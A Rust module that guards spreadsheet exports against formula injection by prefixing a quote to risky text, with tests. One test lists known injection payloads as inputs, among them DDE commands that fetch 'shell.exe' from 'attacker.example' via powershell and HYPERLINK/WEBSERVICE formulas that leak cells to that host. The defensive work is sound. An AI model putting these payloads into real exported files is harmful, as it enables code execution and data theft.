//! Texts that a spreadsheet would calculate or retype, and the `'` that stops it.
//!
//! The guard goes by column type: only texts come here, amounts and dates never do. It puts one `'` in front and changes
//! nothing else; every text that begins with `'` gets one too, so that undoing it is stripping one `'`. A tab in front
//! would not do (CVE-2021-41270), quotes alone do nothing.

/// What is put in front.
pub const GUARD: char = '\'';

/// Numbers of more digits than this lose the rest in a spreadsheet.
pub const SPREADSHEET_DIGITS: u32 = 15;

/// Whether a spreadsheet would take the text for something else than a text.
#[must_use]
pub fn needs_guard(text: &str) -> bool {
    let Some(first) = text.chars().next() else { return false };
    if first.is_control() {
        return true;
    }
    let trimmed = text.trim_matches(|c: char| is_blank(c) || c == '"');
    trimmed.starts_with(is_lead) || is_literal(trimmed) || is_retyped(trimmed)
}

/// The text as it was before the guard.
#[must_use]
pub fn unguarded(text: &str) -> &str {
    text.strip_prefix(GUARD).unwrap_or(text)
}

/// Whether a spreadsheet drops it in front of a value, or a person does not see it.
fn is_blank(c: char) -> bool {
    c.is_whitespace()
        || c.is_control()
        || matches!(c, '\u{AD}' | '\u{180E}' | '\u{200B}'..='\u{200F}' | '\u{202A}'..='\u{202E}' | '\u{2060}'..='\u{2064}' | '\u{2066}'..='\u{206F}' | '\u{FEFF}')
}

/// What formulas begin with (OWASP), with its full-width, small, raised and typographic forms; and the guard itself.
fn is_lead(c: char) -> bool {
    matches!(
        c,
        '=' | '+' | '-' | '@' | '\''
            | '\u{FF1D}' | '\u{FF0B}' | '\u{FF0D}' | '\u{FF20}' | '\u{FF07}'
            | '\u{FE66}' | '\u{FE62}' | '\u{FE63}' | '\u{FE6B}'
            | '\u{207A}'..='\u{207C}' | '\u{208A}'..='\u{208C}'
            | '\u{2212}' | '\u{2010}'..='\u{2015}'
    )
}

/// Truth values and error values, in the languages of the profiles.
fn is_literal(text: &str) -> bool {
    const TRUTHS: [&str; 6] = ["true", "false", "vrai", "faux", "wahr", "falsch"];
    let is_error = |rest: &str| {
        !rest.is_empty()
            && rest
                .chars()
                .all(|c| c.is_uppercase() || c.is_ascii_digit() || matches!(c, '/' | '!' | '?' | '_'))
    };
    TRUTHS.iter().any(|truth| text.eq_ignore_ascii_case(truth))
        || text.strip_prefix('#').is_some_and(is_error)
}

/// Words that stand in dates, times and numbers, in the languages of the profiles; without accents, lower case.
const WORDS: &[&str] = &[
    "jan",
    "janv",
    "january",
    "janvier",
    "januar",
    "janner",
    "jaenner",
    "feb",
    "fev",
    "fevr",
    "february",
    "fevrier",
    "februar",
    "mar",
    "mars",
    "march",
    "marz",
    "maerz",
    "mrz",
    "apr",
    "avr",
    "april",
    "avril",
    "may",
    "mai",
    "jun",
    "june",
    "juin",
    "juni",
    "jul",
    "juil",
    "july",
    "juillet",
    "juli",
    "aug",
    "august",
    "aout",
    "sep",
    "sept",
    "september",
    "septembre",
    "oct",
    "okt",
    "october",
    "octobre",
    "oktober",
    "nov",
    "november",
    "novembre",
    "dec",
    "dez",
    "december",
    "decembre",
    "dezember",
    "mon",
    "tue",
    "tues",
    "wed",
    "thu",
    "thur",
    "thurs",
    "fri",
    "sat",
    "sun",
    "monday",
    "tuesday",
    "wednesday",
    "thursday",
    "friday",
    "saturday",
    "sunday",
    "lun",
    "mer",
    "jeu",
    "ven",
    "sam",
    "dim",
    "lundi",
    "mardi",
    "mercredi",
    "jeudi",
    "vendredi",
    "samedi",
    "dimanche",
    "mo",
    "di",
    "mi",
    "do",
    "fr",
    "sa",
    "so",
    "montag",
    "dienstag",
    "mittwoch",
    "donnerstag",
    "freitag",
    "samstag",
    "sonntag",
    "am",
    "pm",
    "a",
    "p",
    "h",
    "t",
    "z",
    "e",
    "utc",
    "gmt",
    "eur",
    "usd",
    "gbp",
    "chf",
    "er",
];

/// Whether the text has a digit and otherwise only what numbers, dates and times are made of: `00123`, `1E5`, `22 mai`,
/// `1/2`, `12:30`, `5 %`, an account number of sixteen digits.
fn is_retyped(text: &str) -> bool {
    const LONGEST: usize = 10;
    let mut digits = false;
    let mut word = String::new();
    // Two letters right before a digit are a country's code, of an IBAN for instance, and no day of the week.
    let is_known = |word: &str, next: Option<char>| {
        word.is_empty() || (WORDS.contains(&word) && !(word.len() == 2 && next.is_some_and(char::is_numeric)))
    };
    for c in text.chars() {
        if c.is_alphabetic() && !c.is_numeric() {
            if word.len() >= LONGEST {
                return false;
            }
            match c {
                'é' | 'è' | 'É' | 'È' => word.push('e'),
                'û' | 'Û' => word.push('u'),
                'ä' | 'Ä' => word.push('a'),
                other => word.push(other.to_ascii_lowercase()),
            }
            continue;
        }
        if !is_known(&word, Some(c)) {
            return false;
        }
        word.clear();
        if c.is_numeric() {
            digits = true;
        } else if !(is_blank(c) || is_number_mark(c)) {
            return false;
        }
    }
    digits && is_known(&word, None)
}

fn is_number_mark(c: char) -> bool {
    matches!(
        c,
        '.' | ','
            | ':'
            | ';'
            | '/'
            | '\\'
            | '-'
            | '+'
            | '%'
            | '‰'
            | '('
            | ')'
            | '\''
            | '’'
            | '_'
            | '°'
            | '$'
            | '€'
            | '£'
            | '¥'
            | '٫'
            | '٬'
            | '\u{2010}'
            ..='\u{2015}' | '\u{2212}' | '\u{FF0E}' | '\u{FF0C}' | '\u{FF0F}' | '\u{FF1A}' | '\u{FF05}'
    )
}

#[cfg(test)]
mod tests {
    use proptest::prelude::*;

    use super::*;

    /// The payloads of OWASP's page, of the advisories that are known, and forms that got round a guard somewhere.
    #[test]
    fn every_known_payload_is_guarded() {
        let payloads = [
            "=1+1",
            "+1+1",
            "-1+1",
            "@SUM(1+1)*cmd|' /C calc'!A0",
            "=cmd|' /C calc'!A0",
            "=cmd|'/C powershell IEX(wget attacker.example/shell.exe)'!A0",
            "=HYPERLINK(\"http://attacker.example?leak=\"&A1&A2,\"Error: please click\")",
            "=IMPORTXML(CONCAT(\"http://attacker.example?v=\",CONCATENATE(A2:E2)),\"//a\")",
            "=WEBSERVICE(\"http://attacker.example/\"&A1)",
            "=DDE(\"cmd\";\"/C calc\";\"x\")",
            "=rundll32|'URL.dll,OpenURL calc.exe'!A",
            "-2+3+cmd|' /C calc'!D2",
            "+thespanishinquisition(cmd|' /C calc'!A",
            "=-2+5",
            "\t=1+1",
            "\r=1+1",
            "\n=1+1",
            "\tharmless",
            "\rharmless",
            "\nharmless",
            "\0=1+1",
            "   =1+1",
            "\u{A0}=1+1",
            "\u{200B}=1+1",
            "\u{FEFF}=1+1",
            "\"=1+1\"",
            " \" =1+1",
            "＝1+1",
            "＋1",
            "－1",
            "＠SUM(A1)",
            "﹦1",
            "−1",
            "'=1+1",
            "'harmless",
            "  '",
        ];
        for payload in payloads {
            assert!(needs_guard(payload), "{payload:?}");
        }
    }

    #[test]
    fn what_a_spreadsheet_retypes_is_guarded() {
        let retyped = [
            "00123",
            "12345678901234567890",
            "1E5",
            "1e-5",
            "E5",
            "1.5",
            "1,5",
            "1 234,50",
            "12:30",
            "1/2",
            "3-4",
            "22/11/2026",
            "2026-11-22",
            "2026-11-22T02:00:00Z",
            "22.5",
            "22 mai",
            "MARCH1",
            "SEPT2",
            "1-Mar-26",
            "lundi 5 août 2026",
            "5. März",
            "22 févr.",
            "Fr 13.3.2026",
            "5 %",
            "(12)",
            "12 €",
            "€12",
            "12 EUR",
            "1 PM",
            "12h30",
            "true",
            "VRAI",
            "Falsch",
            "#N/A",
            "#DIV/0!",
            "#NOM?",
            "#WERT!",
            "１２３",
            "½",
            "1'000",
        ];
        for text in retyped {
            assert!(needs_guard(text), "{text:?}");
        }
    }

    #[test]
    fn words_and_identifiers_with_letters_stay_bare() {
        let bare = [
            "",
            " ",
            "CB CARREFOUR 22/11",
            "VIR SEPA DUPONT",
            "FR7630006000011234567890189",
            "FR76 3000 6000",
            "ACHAT 12,50 EUR PARIS",
            "Café 4",
            "mai",
            "e",
            "#12 rue",
            "12 rue de Mai",
            "B-1",
            "x=1",
            "a@b.example",
            "[]",
            "{\"a\":1}",
            "Mr O'Neil",
            "12 articles",
        ];
        for text in bare {
            assert!(!needs_guard(text), "{text:?}");
        }
    }

    fn guarded(text: &str) -> String {
        if needs_guard(text) { format!("{GUARD}{text}") } else { text.to_owned() }
    }

    proptest! {
        #[test]
        fn undoing_is_stripping_one_sign(text in "('{0,2}|[=+@\\-\t\r\n 0-9]{0,3}).*") {
            let written = guarded(&text);
            prop_assert_eq!(unguarded(&written), text);
        }

        #[test]
        fn nothing_that_is_written_begins_with_a_lead(text in any::<String>()) {
            let written = guarded(&text);
            if !written.starts_with(GUARD) {
                let visible = written.trim_start_matches(|c: char| is_blank(c) || c == '"');
                prop_assert!(!visible.starts_with(is_lead));
                prop_assert!(!written.starts_with(char::is_control));
            }
        }
    }
}
